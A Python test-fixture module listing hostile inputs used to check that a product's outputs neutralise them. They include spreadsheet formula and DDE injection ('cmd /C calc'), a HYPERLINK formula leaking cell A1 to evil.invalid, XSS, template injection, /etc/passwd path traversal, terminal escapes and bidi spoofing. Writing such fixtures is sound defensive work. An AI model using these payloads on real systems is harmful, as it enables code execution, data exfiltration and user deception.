"""What a customer, or somebody who poses as one, may write into a complaint; and a team into its Settings.

The tests run every text through all outputs: what is new here is tried everywhere.
"""

from __future__ import annotations

from typing import Final

ATTACKS: Final = {
    "formula": "=1+1",
    "formula_plus": "+1+1",
    "formula_minus": "-1+1",
    "formula_at": "@SUM(1+1)",
    "tab_formula": "\t=1+1",
    "return_formula": "\r=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "webservice": '=WEBSERVICE("http://evil.invalid/")',
    "array": "{=1+1}",
    "call": "=1+cmd|' /C calc'!A0",
    "url": "http://evil.invalid/",
    "mail": "mailto:a@evil.invalid",
    "file": "file:///C:/evil.invalid/x.exe",
    "share": "\\\\evil.invalid\\share\\x.xlsx",
    "internal": "internal:'Register'!A1",
    "external": "external:C:\\evil.invalid\\x.xlsx",
    "rich": "<r><t>evil</t></r>",
    "torn": "<r></si></sst><evil/></r>",
    "header_code": '&L&"evil"&G&[Picture]&99',
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "cdata": "]]><evil/>",
    "entity": "&lt;b&gt;&#x3C;script&#x3E;",
    "link": "javascript:alert(1)",
    "template": "{{7*7}}${7*7}{% raw %}",
    "path": "../../../../etc/passwd",
    "windows_path": "..\\..\\CON",
    "colour": "\x1b[31mred\x1b[2J",
    "osc8": "\x1b]8;;http://evil.invalid\x1b\\click\x1b]8;;\x1b\\",
    "c1": "\x9b31mred",
    "bell": "a\x07\x08b",
    "bidi": "abc\u202etxt.exe\u2066\u2069",
    "newline": "one\nINFO: all is well\r\nthree",
    "nul": "a\x00b",
    "format": "%s%n%(x)s{0}{x.__class__}{",
    "escape": "_x0041_ _x000D_",
    "non_character": "a\ufffeb\uffff",
    "surrogate": "a\ud800b",
    "long": "长" * 32_000,
}
"""Name of an attack → its text. Each is a customer's word to be shown as it is, or with the sting drawn."""

CELLS: Final = {name: text for name, text in ATTACKS.items() if name != "surrogate"}
"""Those that a frame and a spreadsheet can hold."""

STEERING: Final = frozenset("\x00\x07\x08\x1b\x9b\u202e\u2066\u2069")
"""Characters that steer a terminal or turn the direction of writing."""
